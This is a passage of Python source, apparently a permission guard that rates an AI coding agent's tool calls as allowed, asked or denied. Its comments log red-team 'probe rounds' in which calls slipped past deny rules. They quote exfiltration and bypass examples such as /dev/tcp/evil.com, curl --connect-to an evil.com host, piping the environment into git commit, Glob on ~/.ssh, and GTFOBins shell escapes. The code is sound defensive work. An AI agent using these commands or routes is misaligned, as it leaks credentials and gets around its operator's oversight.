        if rule.kind == "any":
            return 2
        if rule.kind == "glob":
            paths = self.file_paths()
            if not paths:
                return 2   # no readable path: a deny/ask rule on this tool applies
            if tool == GREP_TOOL:
                return self.grep_level(rule, paths)
            if tool in ("Glob", "LS"):
                # they list names below their path (Glob: what its pattern picks): a
                # rule that covers all of it denies; names alone are not the contents
                # a part of it holds, so no question for a partial reach
                pattern = self.args.get("pattern")
                if tool == "Glob" and isinstance(pattern, str) and pattern.strip():
                    if pattern.startswith(("~", "$")):
                        # (probe round 32, rules32: {"pattern": "~/.ssh/*"} listed past a
                        # Read(~/.ssh/**) deny: the home's, as a path argument is read)
                        picks = self.tool_path(pattern)
                    else:
                        picks = (pattern if pattern.startswith("/") else paths[0].rstrip("/") + "/" + pattern,)
                    level = 0
                    for fixed in (f for picked in picks for f in _glob_alternatives(picked)):
                        level = max(level, self.glob_level(rule, [fixed], ()),
                                    self.glob_level(rule, (), [glob_dir(fixed)]))
                else:
                    level = self.glob_level(rule, paths, paths)
                return 2 if level == 2 else 0
            return self.glob_level(rule, paths, ())
        if rule.kind == "domain":
            # a deny/ask rule on a domain covers its subdomains too (evil.com is also
            # x.evil.com); an allow rule stays exact
            host = url_host(self.args.get("url"))
            return 2 if domain_blocks(rule, host) else 0
        if rule.kind == "json":
            # (probe round 49, rules49) a deny or ask rule's arguments met among more: the
            # call holds each of them with the rule's value ({"repo": "a/b", "method":
            # "squash"} also meets a call adding "pr": 5); an allow rule stays exact
            if canonical_json(dict(self.args)) == rule.json_text:
                return 2
            want = _json_rule_items(rule.json_text)
            # ((probe round 52, tools53) a value in another case or with blanks around it:
            # "SQUASH", " squash" is the same choice to a server that reads its enumerated
            # values loosely; a deny or ask rule's value meets it (fail closed))
            return 2 if want and all(k in self.args and _loose_json(self.args[k]) == v for k, v in want) else 0
        return 0

    def runs_git_alias(self) -> bool:
        """Does a git command of this call run a word that is none of git's commands (an
        alias, a git-WORD program)?"""
        a = self.analysis
        if a is None or not a.parsed:
            return False
        for c in a.commands:
            if c.name == "git" or c.name.endswith("/git"):
                _glob, sub, _rest, ok = git_split_t(c.argv[1:])
                if ok and sub and sub not in GIT_COMMANDS and not sub.startswith("-"):
                    return True
        return False

    def file_tool_lines(self) -> list[str]:
        """(probe round 51, tools52) The command lines an MCP file tool's call stands for, for
        the operator's Bash rules: a delete's rm -r of its paths, a move's mv, a chmod's
        (a Bash(rm:*) deny met Cursor's delete_file, read as rm, and the trash and rmdir
        commands, but not mcp__filesystem__delete_file: KAADD)."""
        if self._file_lines is not None:
            return self._file_lines
        own = self.tool.rsplit("__", 1)[-1][:128]
        lines: list[str] = []
        if self.writes_files() and not self.remote_place():
            paths = self.file_paths()
            lines += _move_commands(self.tool, self.args, self.tool_path)
            if paths and not lines and _deletes_name(own):
                lines.append(shlex.join(["rm", "-r", "--", *paths[:16]]))
            perm = _name_search(_PERMISSION_TOOL, own)
            if perm:
                lines += _permission_commands(perm, self.args, paths)
        lines += _api_commit_lines(self.tool, self.args)
        self._file_lines = lines
        return lines

    def fetched_hosts(self) -> list[str | None]:
        """The hosts this call may fetch from (None: an address that cannot be read): the
        URLs in a Bash command's words (code included) and a fetcher's bare host
        operands (curl -s example.com); another tool's values that are URLs, and
        addresses without a scheme under an address's name."""
        key = ("fetched-hosts", self.command) if self.is_bash else None
        if key is not None:
            hit = self.s.memo.get(key, _MISSING)
            if hit is not _MISSING:
                return hit
        out: list[str | None] = []
        if self.is_bash:
            if self.command is None:
                return out
            for words in self.bash_words():
                if not words:
                    continue
                name = posixpath.basename(words[0])
                fetcher = name in _HOST_OPERAND_PROGRAMS
                remote = name in _REMOTE_SPEC_PROGRAMS
                for w in words[1:]:
                    for url in _URL_IN_TEXT.findall(w):
                        host, looks = lenient_url_host(url)
                        if host is not None and not HOST_CHARS.issuperset(host):
                            host = None   # (probe round 51, rules51: curl's globs, {evil.com,a.org})
                        if host is not None or looks:
                            out.append(host)
                    if fetcher and w[:1] in _HOST_START and not w.startswith("-"):
                        if w.startswith("//"):
                            # (probe round 51, rules51) //evil.com/x: a URL without its scheme
                            out.append(lenient_url_host("http:" + w)[0])
                        elif w[0].isdigit() and _NUMERIC_OPERAND.match(w):
                            # an address operand in any spelling (curl 2130706433, curl 127.1:8080;
                            # not a count or a time, --retry 0, -m 30)
                            h = _NUMERIC_OPERAND.match(w).group(1)
                            if "." in h or len(h) > 7:
                                out.append(h)
                    if "://" in w:
                        # (probe round 48, rules48) ssh://, git://, rsync://, docker://... a
                        # word's or an option's value (not a URL inside another's query)
                        m = _SCHEME_HOST.match(w.split("=", 1)[1] if w.startswith("-") and "=" in w else w)
                        if m:
                            out.append(m.group(1).lower().rstrip("."))
                    if fetcher and not w.startswith("-") and _BARE_HOST.match(w):
                        out.append(_BARE_HOST.match(w).group(1).lower().rstrip("."))
                    if remote and not w.startswith("-"):
                        # scp/rsync's [user@]host:path, socat's TCP:host:port
                        for part in w.split(":")[:3] if name in ("socat", "socat1", "socat2") else (w,):
                            m = _REMOTE_SPEC.match(part + ":")
                            if m:
                                out.append(m.group(1).lower().rstrip("."))
                    if ("'" in w or '"' in w or "`" in w) and "." in w:
                        # a host name quoted in code (socket.create_connection(("evil.com", 80)))
                        out.extend(h.lower() for h in _QUOTED_HOST.findall(w))
            a = self.analysis
            if a is not None and ("roxy" in self.command or "ROXY" in self.command):
                # (probe round 49, rules49) a proxy's host: every request reaches it
                settings = [f"{n}={v}" for c in a.commands for n, v in c.env if v is not None]
                for words in self.bash_words():
                    settings.extend(w for w in words if "=" in w)
                    settings.extend(f"{x} {y}" for x, y in zip(words, words[1:])
                                    if x.startswith("-") or x.lower().endswith("proxy"))
                for text in settings:
                    m = _PROXY_SETTING.search(text) if "roxy" in text or "ROXY" in text else None
                    v = _PROXY_VALUE.match(m.group(1).strip("'\"")) if m else None
                    if v:
                        out.append(v.group(1).lower().rstrip("."))
            if "--connect-to" in self.command:
                # (probe round 49, rules49) curl --connect-to A:443:evil.com:443 https://A
                out.extend(h.lower().rstrip(".") for h in _CONNECT_TO.findall(self.command))
            if "/dev/" in self.command:
                # bash's /dev/tcp/HOST/PORT (exec 3<>/dev/tcp/evil.com/80, cat < /dev/udp/...)
                out.extend(h.lower().rstrip(".") for h in _DEV_TCP_HOST.findall(self.command))
            _remember(self.s.memo, key, out)
            return out
        leaves = self.arg_leaves()
        for v in leaves:
            v = v.strip()
            if v[:12].lower().startswith(("http:", "https:", "ws:", "wss:", "ftp:", "view-source:")):
                host, looks = lenient_url_host(v)
                if host is not None or looks:
                    out.append(host)
        for v in _schemeless_addresses(self.args):
            host, _looks = lenient_url_host("http://" + v)
            out.append(host)
        return out

    def listed_dirs(self, a: BashAnalysis) -> list[str]:
        """The operands of a Bash command that lists names below them (ls, find, tree,
        du...) that the analysis read: the directories it lists."""
        read = {normalize_path(p, cwd=self.cwd, home=self.home) for p in a.read_paths[:256]}
        out: list[str] = []
        for c in a.commands:
            if c.name not in _NAME_LISTERS:
                continue
            for v in c.argv[1:]:
                if c.name == "find" and (v.startswith(("-", "(", "!")) or v in (",",)):
                    break   # (find's expression begins: its words are no directories)
                if v.startswith("-"):
                    continue
                n = normalize_path(v, cwd=self.cwd, home=self.home)
                if n in read:
                    out.append(n)
        return out

    def glob_level(self, rule: PermissionRule, paths, trees, visible=()) -> int:
        level = 0
        if any(p.startswith("/proc/") for p in (*paths, *trees)):
            # (probe round 34) cat /proc/$PPID/cwd/.env: the agent's own cwd, maybe
            paths = [*paths, *filter(None, map(other_cwd_alias, paths))]
            trees = [*trees, *filter(None, map(other_cwd_alias, trees))]
        for p in paths:
            n = normalize_path(p, cwd=self.cwd, home=self.home)
            level = max(level, block_glob_level(rule, n, cwd=self.base, home=self.home, tree=False))
            if level == 2:
                return 2
            if not level and _OPEN_DESCRIPTOR.fullmatch(n):
                # (probe round 35, residuals37) /dev/fd/3, /proc/self/fd/3, /dev/stdin: a
                # file some process has open, known only at run time (Claude Code's Read
                # follows the link and checks its target); it may be the one the rule
                # keeps: asked, never allowed under the rule
                level = 1
        for p in trees:
            n = normalize_path(p, cwd=self.cwd, home=self.home)
            level = max(level, block_glob_level(rule, n, cwd=self.base, home=self.home, tree=True,
                                                skip_hidden=p in visible))
            if level == 2:
                break
            if not level and _OPEN_DESCRIPTOR.fullmatch(n):
                level = 1   # (a directory some process has open: Grep or ls on /dev/fd/3)
        return level

    def grep_level(self, rule: PermissionRule, roots: list[str]) -> int:
        """The Grep tool reads every file under its path that its ``glob`` argument
        picks: covered when the rule covers the whole of what the glob picks, partly
        when the two meet. A path that names a file (src/app.py) is that file."""
        if self.glob_level(rule, roots, ()) == 2:
            return 2   # the path itself (Grep on .env)
        files = [r for r in roots if _FILE_NAME.search(r)]
        if files:
            level = self.glob_level(rule, files, ())
            roots = [r for r in roots if r not in files]
            if level == 2 or not roots:
                return level
        level = self.glob_level(rule, (), roots)
        glob = self.args.get("glob")
        kind = self.args.get("type")
        if level == 1 and not (isinstance(glob, str) and glob.strip()) and isinstance(kind, str) \
                and kind.strip().lower() in _RG_TYPES:
            # (probe round 34, tools34) ripgrep's --type py searches *.py and *.pyi alone:
            # a Read(.env) deny does not reach it (it was asked)
            glob = _RG_TYPES[kind.strip().lower()]
        if level != 1 or not isinstance(glob, str) or not glob.strip():
            return level
        # (Claude Code splits "glob" on blanks and commas into several --glob options:
        # "*.py,secrets/*" picks both)
        parts = list(dict.fromkeys(x for alt in _glob_alternatives(glob.strip()) for x in _GLOB_SPLIT.split(alt) if x))
        if parts and all(x.startswith("!") for x in parts):
            # (probe round 34, tools34) "!*.py" only leaves out: the rest of the tree is read
            return 1
        level = 0
        for part in parts:
            part = part.lstrip("/")
            if not part or part.startswith("!"):
                continue
            for root in roots:
                picked = root.rstrip("/") + ("/" if "/" in part else "/**/") + part
                # (probe round 34) ripgrep's --glob is gitignore's: "*" and "?env" match
                # .env, and a file a --glob picks is searched though hidden
                hit = block_glob_level(rule, picked, cwd=self.base, home=self.home, tree=False, shell=False)
                if hit == 2:
                    return 2
                if hit:
                    # picked under a literal directory the rule covers whole: covered
                    if block_glob_level(rule, glob_dir(picked), cwd=self.base, home=self.home, tree=True) == 2:
                        return 2
                    level = 1
        return level

    def allow_rule(self, only: list[PermissionRule] | None = None) -> str | None:
        """The allow rule (or plugin) that allows this call, strictly matched (``only``:
        among these rules alone, the suggestions stage 3 is about to offer)."""
        if only is None:
            rules = self.rules_for("allow")
            plugin_allow = [(gid, pat) for gid, pat in self.guard_verdicts() if pat.verdict == ALLOW]
        else:
            rules, plugin_allow = [r for r in only if r.covers_tool(self.tool)], []
        if not rules and not plugin_allow:
            return None
        if self.is_bash:
            a = self.analysis
            if a is None or not a.parsed or a.dynamic or not a.commands or a.unknown_writes:
                return None
            if any(f.code in _NO_RULE_LIFTS for f in a.risky):
                # printenv | git commit -F - under Bash(git commit:*): the rule allowed a
                # commit, not the environment kept in history and pushed (probe round 28)
                return None
            if a.changes_env:
                # PATH=/tmp/x:$PATH; git commit -m x: the rule named git, not what a
                # variable set before it makes git run (as an assignment in front of it)
                return None
            # a write made through an option (git diff --output=F, sort -o F, tar -C D)
            # outside the working directory is not what a prefix rule allowed
            for p in a.write_paths:
                n = normalize_path(p, cwd=self.cwd, home=self.home)
                if n not in HARMLESS_WRITE_TARGETS and not is_inside(n, self.work_dir):
                    return None
            # cd elsewhere && git status: git there runs that repository's hooks and
            # fsmonitor; an allow rule for cd and one for git do not make a pair. Where
            # each command runs is the analysis' (cd - goes back to a place unknown here,
            # a bare cd to the home, popd to what the stack holds)
            for d in a.run_dirs:
                if d is None or not is_inside(d, self.work_dir):
                    return None
            bash_rules = [r for r in rules if r.tool == "Bash"]
            if bash_rules:
                names: list[str] = []
                unruled: list[SimpleCommand] = []
                for c in a.commands:
                    if not self.part_allowable(c):
                        names = []
                        break
                    hit = self.part_rule(c, bash_rules)
                    if hit is None:
                        unruled.append(c)
                    else:
                        names.append(hit)
                # (ls && git commit -m x: a part read-only on its own needs no rule; each
                # is analysed alone, so only once a rule has matched another part)
                if names and unruled and any(f.code in _RO_PART_RISKS for f in a.risky):
                    # env | grep -i token | git commit -F -: each part read-only alone, but
                    # together they pick a secret out and hand it to the ruled part
                    names = []
                if names and all(self.part_read_only(c) for c in unruled):
                    return ", ".join(dict.fromkeys(names))
            if plugin_allow and all(self.part_allowable(c) for c in a.commands):
                return f"guard:{plugin_allow[0][0]}"
            return None
        globs_tried = False
        for r in rules:
            if r.kind == "any":
                return r.text
            if r.kind == "glob":
                if globs_tried:
                    continue
                globs_tried = True
                # every path the call touches allowed by a rule (a path and the spelling a
                # tool may open instead, e\u0301.md and \u00e9.md, each approved in turn)
                paths = self.file_paths()
                used: list[str] = []
                for p in paths:
                    hit = next((g.text for g in rules if g.kind == "glob"
                                and glob_matches(g, p, cwd=self.base, home=self.home, fold=False)), None)
                    if hit is None:
                        break
                    used.append(hit)
                else:
                    if paths:
                        return ", ".join(dict.fromkeys(used))
            elif r.kind == "domain":
                host = url_host(self.args.get("url"))
                if host is not None and domain_matches(r, host):
                    return r.text
            elif r.kind == "json":
                if canonical_json(dict(self.args)) == r.json_text:
                    return r.text
            elif r.kind == "name":
                if name_rule_matches(r, self.tool, self.args, loose=False):
                    return r.text
            elif r.kind == "ps":
                if powershell_rule_level(r, self.args.get("command"), loose=False) == 2:
                    return r.text
        if plugin_allow and (self.is_read or self.is_edit):
            return f"guard:{plugin_allow[0][0]}"
        return None

    def part_rule(self, c: SimpleCommand, bash_rules: list[PermissionRule]) -> str | None:
        """The Bash allow rule that covers this one part of the command (step 4's match)."""
        words = _allow_words(c)
        matching = [] if words is None else [r for r in bash_rules if bash_allow_matches(r, words)]
        if matching and self.analysis is not None and any(_relative_program(r) for r in matching):
            # (probe round 36, rules36) Bash(./deploy.sh:*) names the working directory's
            # deploy.sh: after cd sub, ./deploy.sh is sub/deploy.sh, another program
            # (benignnear37: where this part runs, not any part: (cd web && npm run build)
            # && ./deploy.sh and cd web && ... && cd .. && ./deploy.sh run ./deploy.sh here)
            if c in self.analysis.moved or (self.analysis.run_dirs and not self.analysis.parsed):
                matching = [r for r in matching if not _relative_program(r)]
        if matching and any(map(_programless, matching)):
            # (probe round 45, lead) a wildcard rule that does not name its program (Bash(* --help),
            # Bash(*--version*)) covers the command that runs, never a program that runs a
            # command line it is given: bash -c 'git push origin main' --help (--help is the
            # shell's $0), sudo X, ssh host 'rm -rf /data; echo' --help, docker exec c sh -c
            # CODE, python3 -c CODE --help ran what no rule named (words: past the wrappers
            # Claude Code strips, the wrapped command's own)
            if (c.wrappers and words[0].rsplit("/", 1)[-1] != c.argv[0]) or _runs_given_code(c.argv):
                matching = [r for r in matching if not _programless(r)]
        if not matching:
            return None
        # an option that runs another program (git diff --ext-diff, rsync -e
        # CMD) or a word only known at run time that could be one: only a
        # rule that writes that option covers it
        marked = tuple(UNKNOWN_WORD if i in c.dynamic_args else w for i, w in enumerate(c.argv))
        if words and words[-1] == UNKNOWN_WORD and c.wrappers:
            marked += (UNKNOWN_WORD,)   # (xargs's words read at run time)
        runs = option_runs_program(marked)
        if runs is None:
            # (probe round 28) a build's option or setting that runs code the command
            # names (make SHELL=/tmp/x, rake -e CODE, pytest -p PLUGIN, bun -e CODE)
            runs = build_rule_word(marked)
        # a build pointed at another project (npm run x --prefix /elsewhere,
        # make -C DIR, pytest --rootdir), at standard input (make -f -) or at a file
        # outside the project (jest --config /tmp/x.js, rake -f /tmp/R): only a rule
        # that writes the place
        elsewhere = [v for v in (*build_elsewhere_values(marked), *build_path_values(marked))
                     if v == UNKNOWN_WORD or v == "-" or (
                         not is_inside(n := normalize_path(v, cwd=self.cwd, home=self.home), self.work_dir)
                         and n not in HARMLESS_WRITE_TARGETS)]
        return next((r.text for r in matching if (runs is None or runs in r.tokens)
                     and all(any(_names_value(t, v) for t in r.tokens) for v in elsewhere)
                     and _fetch_covered(r, c)), None)

    def part_read_only(self, c: SimpleCommand) -> bool:
        """A part of a compound command that is read-only on its own, as Claude Code
        matches rules per part and asks none for a read-only one (git status && npm test
        under Bash(npm test:*)): plain words, no assignment, no wrapper, no write but to
        /dev/null, and its text alone a read-only command. (Sensitive paths, a cd elsewhere
        and writes outside were judged on the whole line before.)"""
        if c.env or c.wrappers or c.dynamic_args or not self.part_allowable(c):
            return False
        if not command_read_only(c.name, c.argv[1:], False):
            return False   # (the command's own table says no: no need to analyse its text)
        if any(r.writes and r.target not in HARMLESS_WRITE_TARGETS for r in c.redirects):
            return False
        b = self.s.analyze(c.text, self.cwd or "/")
        return b.parsed and b.read_only and len(b.commands) == 1

    def part_allowable(self, c: SimpleCommand) -> bool:
        # (round 40, cold40) asked of each part by step 4's allow rule, the read-only
        # test and stage 3's suggestions and their check (up to four times a part): the
        # answer depends on the part and the call's directories only, so it is kept for
        # the evaluation, by the part's identity (the analysis holding it lives as long)
        memo = self._allowable
        if memo is None:
            memo = self._allowable = {}
        else:
            hit = memo.get(id(c))
            if hit is not None:
                return hit
        ok = memo[id(c)] = self._part_allowable(c)
        return ok

    def _part_allowable(self, c: SimpleCommand) -> bool:
        if c.dynamic_name or not c.written or not c.argv or c.name in _RUNS_TEXT:
            return False
        if c.name == "find" and any(v in _FIND_WRITES for v in c.argv[1:]):
            return False   # Bash(find:*) is not find . -delete (a write through an option)
        if c.env and not all(harmless_env(name, value, c.name) for name, value in c.env):
            return False
        for r in c.redirects:
            if r.writes and not redirect_allowed(r.target, cwd=self.cwd, home=self.home, within=self.work_dir or ""):
                return False
        return True

    def sends_tree(self) -> str | None:
        """The working directory, one above it or the home directory handed to another
        tool that sends files out (mcp__gdrive__upload {"local_path": "."}, an S3 upload
        with recursive): the whole project leaves, as tar c . | curl -T - would."""
        if self.analysis is not None or self.is_read or _builtin_name(self.tool):
            return None
        if _name_search(_SENDS_FILES, self.tool) is None:
            return None
        roots = [d for d in (self.work_dir, self.cwd) if d]
        for p in self.file_paths():
            if p == "/" or (self.home and p == self.home) or any(is_inside(d, p) for d in roots):
                return p
        return None

    def risky_or_outside(self) -> Decision | None:
        a = self.analysis
        tree = self.sends_tree() if a is None else None
        if tree is not None:
            return self.decide(ASK, REASON_SENDS_TREE.format(path=tree, tool=self.tool), "risky_command", "sends_tree",
                               details={"paths": [tree]})
        if a is None and not (self.is_read or self.is_edit or _builtin_name(self.tool)) and _name_search(_EXPOSES, self.tool) \
                and not _name_search(_EXPOSE_QUERY, self.tool):
            # mcp__ngrok__create_tunnel {"port": 22}: this machine's port opened to the internet,
            # as ngrok tcp 22 is asked (probe round 26)
            return self.decide(ASK, REASON_EXPOSES.format(tool=self.tool), "risky_command", "exposes_port")
        if a is not None:
            if a.risky:
                f = a.risky[0]
                return self.decide(ASK, REASON_RISKY.format(reason=f.reason, part=f.part), "risky_command", f.code,
                                   details={"finding": f.code, "part": f.part,
                                            "risky": [{"code": x.code, "part": x.part} for x in a.risky]})
            if a.unknown_writes:
                return self.decide(ASK, REASON_UNKNOWN_WRITE.format(part=self.command), "working_dir",
                                   details={"part": self.command})
            outside = []
            for p in a.write_paths:
                n = normalize_path(p, cwd=self.cwd, home=self.home)
                if n not in HARMLESS_WRITE_TARGETS and not is_inside(n, self.work_dir):
                    outside.append(n)
            for c in a.commands:
                for r in c.redirects:
                    if r.writes:
                        if r.target is None:
                            return self.decide(ASK, REASON_UNKNOWN_WRITE.format(part=c.text), "working_dir",
                                               details={"part": c.text})
                        n = normalize_path(r.target, cwd=self.cwd, home=self.home)
                        if n not in HARMLESS_WRITE_TARGETS and not is_inside(n, self.work_dir):
                            outside.append(n)
            if outside:
                outside = list(dict.fromkeys(outside))
                return self.decide(ASK, REASON_OUTSIDE_CWD.format(path=", ".join(outside)), "working_dir",
                                   details={"paths": outside})
        elif self.is_other and dialects.runner(self.tool) and not _dialect_named(self.s, self.tool):
            # (probe round 49, tools49) another agent's task, command id or cell runner in a
            # shape not known exactly (run_task with an argument the table lacks, an npm-typed
            # create_and_run_task): what it runs was not read
            return self.decide(ASK, REASON_UNREAD_RUN.format(tool=self.tool), "risky_command", "unread_run")
        elif self.shell_args() or self.writes_files():
            if self.content_risk is not None:
                return self.content_ask()
            # (a registered tool's capabilities were checked in stage 1: its shell is its job;
            # the PowerShell tool's file command or build in accept_edits: Bash's row, ps_row)
            for code in (self.shell_args() if self.tool not in self.s.tools and self.ps_row() is None else ()):
                b = self.s.analyze(code, self.shell_cwd())
                if code in self._code_args:
                    return self.decide(ASK, REASON_TOOL_CODE.format(tool=self.tool, part=code[:300]), "risky_command",
                                       "tool_runs_code", details={"part": code[:500]})
                if not b.parsed or b.dynamic or not self.read_only(b) or b.dangerous:
                    return self.decide(ASK, REASON_TOOL_SHELL.format(tool=self.tool, part=code[:300]), "risky_command",
                                       "tool_runs_shell", details={"part": code[:500]})
            # (an MCP server's file tool; a custom tool's own paths are its policy's business)
            if self.dialect_writer() and not (self.patch_paths() if dialects.patcher(self.tool) else self.file_paths()):
                # another agent's file tool (apply_patch, write_file) naming no file that
                # could be read: a patch whose headers are not the format's, a path that
                # is no text (probe round 25): it may write anywhere
                return self.decide(ASK, REASON_UNREAD_TARGET.format(tool=self.tool), "working_dir",
                                   "unread_target")
            if self.work_dir and self.is_other and _deletes_name(self.tool.rsplit("__", 1)[-1]) \
                    and not self.remote_place() and self.work_dir in self.file_paths():
                # (probe round 51, tools52) an MCP tool named for deleting given the project
                # itself (delete_directory {"path": "."}, delete_file of the cwd): as rm -rf .
                # is asked, its .git and uncommitted work with it (was a file in the project)
                return self.decide(ASK, REASON_RISKY.format(reason=_RM_WORKDIR_REASON, part=self.work_dir),
                                   "risky_command", _RM_WORKDIR, details={"finding": _RM_WORKDIR, "part": self.work_dir})
            out = [p for p in self.file_paths() if not is_inside(p, self.work_dir)] \
                if self.writes_files() and (self.tool.startswith("mcp__") or self.dialect_writer()
                                            or self.patch_paths()) else []
            if out:
                return self.decide(ASK, REASON_OUTSIDE_CWD.format(path=", ".join(out)), "working_dir",
                                   details={"paths": out})
        elif self.is_edit:
            if self.content_risk is not None:
                return self.content_ask()
            paths = self.file_paths()
            out = [p for p in paths if not is_inside(p, self.work_dir)]
            if out:
                return self.decide(ASK, REASON_OUTSIDE_CWD.format(path=", ".join(out)), "working_dir",
                                   details={"paths": out})
        return None

    def only_read_only_shell(self) -> bool:
        """Another tool whose whole call is shell commands that are read-only, each as
        Bash's would be: nothing but the command and where it runs, when, and words for
        a person (no host, user, shell program, environment or other argument that may
        write or send), no code, no file written. Not a tool named for another machine
        (ssh, a container, a pod): its reads are that machine's, no read of the project,
        so they take the other-tools row (denied in explore)."""
        codes = self.shell_args()
        if not codes or self._code_args or self.writes_files() or _shell_traits(self.tool)[0] \
                or _remote_shell(self.tool) \
                or _name_search(_SENDS_FILES, self.tool) or _name_search(_PROSE_TOOL, self.tool) \
                or _name_search(_TYPES_KEYS, self.tool):
            return False   # (keys typed into a terminal run in whatever holds it: a REPL, an editor)
        for k, v in self.args.items():
            if not isinstance(k, str):
                return False
            spelled = _key_spelling(k)
            if spelled in _SHELL_CWD_KEYS or spelled in _SHELL_HARMLESS_KEYS:
                continue
            if not (isinstance(v, str) and spelled in _SHELL_ARG_KEYS):
                return False
        for code in codes:
            if code.startswith("\x00"):
                return False
            b = self.s.analyze(code, self.shell_cwd())
            if not b.parsed or b.dangerous or b.risky or not self.read_only(b):
                return False
        return True

    def read_only(self, a: BashAnalysis) -> bool:
        if not (a.parsed and a.read_only) or a.dynamic or a.unknown_writes or a.write_paths:
            return False
        for c in a.commands:
            if c.dynamic_name or (c.env and not all(harmless_env(n, v, c.name) for n, v in c.env)):
                return False
            if any(r.writes and normalize_path(r.target or "?", cwd=self.cwd) not in HARMLESS_WRITE_TARGETS
                   for r in c.redirects):
                return False
        return True

    def mode_default(self) -> Decision:
        a = self.analysis
        if self.is_read:
            row = "read_tools"
        elif self.is_edit:
            row = "edit_inside_cwd"
        elif a is None and self.writes_files() and (self.patch_paths() or (
                self.tool.startswith("mcp__") or self.dialect_writer()) and self.file_paths()) \
                and _infra_verb(self.tool) is None \
                and not (_name_search(_HOSTED_SERVER, self.tool.split("__")[1] if self.tool.count("__") >= 2 else "")
                         and any(isinstance(k, str) and k.lower() in _REMOTE_KEYS for k in self.args)):
            # an MCP server's file tool writing in the project: as Write (a file pushed to
            # a hosted repository, {"owner", "repo", "path"}, is no file here)
            row = "edit_inside_cwd"
        elif a is not None:
            if a.file_command:
                row = "bash_file_commands"
            elif a.safe_build:
                row = "bash_safe_build"
            else:
                row = "bash_other"
        else:
            row = self.ps_row() or "other_tools"
        verdict = self.s.mode_defaults[row][self.mode]
        if verdict == ALLOW and self.mode == BYPASS:
            # bypass allows what it would have asked about; not a shell another program
            # starts with no command (awk's system("/bin/sh"), vim -c ':!/bin/sh', tar's
            # --checkpoint-action=exec=/bin/sh, python's pty.spawn("sh")): what it runs is
            # only known at run time, as "$CMD" is (probe round 29, GTFOBins)
            # ((probe round 45, pwsh45) another tool's shell command too, the PowerShell tool's read
            # as the Bash it stands for ($env:NODE_OPTIONS='--require ./x.js' is export
            # NODE_OPTIONS=..., schtasks /create is crontab): a preload variable, a crontab)
            if a is not None:
                codes = ((self.command, a),)
            elif not self.is_read and self.tool not in self.s.tools:
                codes = ((c, None) for c in self.shell_args() if not c.startswith("\x00"))
            else:
                codes = ()
            for code, b in codes:
                escape = shell_escape(code)
                if escape is None:
                    b = b or self.s.analyze(code, self.shell_cwd())
                    escape = unseen_code(b, code, self.home)
                    # (probe round 49, redteam49) a tree of unseen names unpacked or copied into
                    # a directory that holds critical files (tar -xf x.tar -C /, tar -P, cpio -i,
                    # rsync -a root/ /): the critical file written by name is denied in every
                    # mode, so bypass does not write it unseen
                    held = next((p for p in b.tree_writes if critical_holder(p)), None) \
                        if escape is None and b.tree_writes else None
                    if held is not None:
                        self.no_suggestions = True
                        return self.decide(ASK, REASON_SYSTEM_TREE.format(path=held, part=code[:300]),
                                           "risky_command", "system_tree_write", details={"part": code[:300]})
                if escape is not None:
                    self.no_suggestions = True
                    return self.decide(ASK, REASON_SHELL_ESCAPE.format(escape=escape, part=code[:300]),
                                       "risky_command", "shell_escape", details={"part": escape})
        if verdict == "llm":
            return self.decide(ASK, REASON_LLM.format(command=self.command), "mode_default", row, llm=True)
        sent = self.sent_credential() if row in ("other_tools", "read_tools") and verdict == ALLOW \
            and self.mode != BYPASS else None
        if sent is not None:
            # a key in an issuer's format, a URL's password or secret-named parameter
            # handed to a tool that sends it on (WebFetch's address, an MCP post): the
            # secret is leaving, asked as curl -d @.env is (BYPASS skips it, as it skips that)
            return self.decide(ASK, REASON_SENDS_CREDENTIAL.format(what=sent, tool=self.tool), "mode_default", row)
        elif row == "other_tools" and verdict == ALLOW and self.is_other and self.tool.startswith("mcp__") \
                and (why := _unguarded_agent_call(self.tool, self.args)) is not None:
            # (probe round 49, tools50) another agent started with its approvals off: what it
            # runs is chosen later and seen by no guard (asked in bypass, as the Bash line is)
            return self.decide(ASK, REASON_UNGUARDED_AGENT_TOOL.format(what=why[:200]), "mode_default", row)
        elif row == "other_tools" and verdict == ALLOW and self.tool == "WebFetch" \
                and (why := self.webfetch_shape()) is not None:
            # (probe round 49, tools50) WebFetch takes a url and a prompt: another argument
            # ({"URL": "file:///etc/passwd"}, {"uri": ...} beside the url) may be where it goes,
            # no url is no address read, and a local file named in the prompt is opened
            return self.decide(ASK, why, "mode_default", row)
        elif row == "other_tools" and verdict == ALLOW and self.tool == "WebFetch" and "url" in self.args:
            host = url_host(self.args.get("url"))
            if host is None:
                return self.decide(ASK, REASON_BAD_URL + f": {str(self.args.get('url'))[:200]}", "mode_default", row)
            if internal_host(host):
                # a service on this machine or its network (an admin page, the Docker
                # API): asked, as curl to it is
                return self.decide(ASK, REASON_INTERNAL_URL.format(host=host), "mode_default", row)
            alike = confusable_host(host) if "xn--" in host else None
            if alike is not None:
                # https://аpi.github.com (Cyrillic а): another site dressed as one the user
                # knows; asked in every mode (probe round 28)
                return self.decide(ASK, REASON_CONFUSABLE_HOST.format(host=host, alike=alike), "mode_default", row)
        elif row == "other_tools" and verdict == ALLOW and self.browser and self.browser_url_risk() is not None:
            # a browser opening what is no web page of the internet: a local file outside the
            # working directory, the browser's own pages (chrome://settings/passwords), a
            # script or inline document URL (javascript:, data:, blob:), a service of this
            # machine or network reached from page code (fetch('http://localhost:6379/'))
            return self.decide(ASK, self.browser_url_risk(), "mode_default", row)
        elif row == "other_tools" and verdict == ALLOW and self.mode != BYPASS and self.is_other \
                and _installs_agent_tool(self.tool):
            # (probe round 49, tools50) an MCP server, an extension or a plugin installed or
            # enabled: a program run from then on with the agent's tools
            return self.decide(ASK, REASON_INSTALLS_AGENT_TOOL.format(tool=self.tool[:200]), "mode_default", row)
        elif row == "other_tools" and verdict == ALLOW and self.mode != BYPASS and self.browser \
                and (what := self.browser_session_read()) is not None:
            # (probe round 49, tools50) the session's cookies, local or session storage or
            # storage state returned to the model (browser_evaluate of document.cookie,
            # get_cookies, storage_state): the credentials a browser profile's cookie file
            # holds, asked as cat of it is (KKADD)
            return self.decide(ASK, REASON_BROWSER_SESSION.format(what=what[:100]), "mode_default", row)
        elif row == "other_tools" and verdict == ALLOW and self.mode != BYPASS and self.infra_change() is not None:
            # a cloud or infrastructure server's named change (kubectl_delete, s3_delete_bucket,
            # terraform apply, remove_container): asked, as `aws s3 rb`, `kubectl delete` or
            # `docker rm` are (BYPASS skips it, as it skips those)
            return self.decide(ASK, REASON_INFRA_CHANGE.format(tool=self.tool, verb=self.infra_change()),
                               "mode_default", row)
        elif row in ("other_tools", "edit_inside_cwd") and verdict == ALLOW and self.mode != BYPASS \
                and self.consequence() is not None:
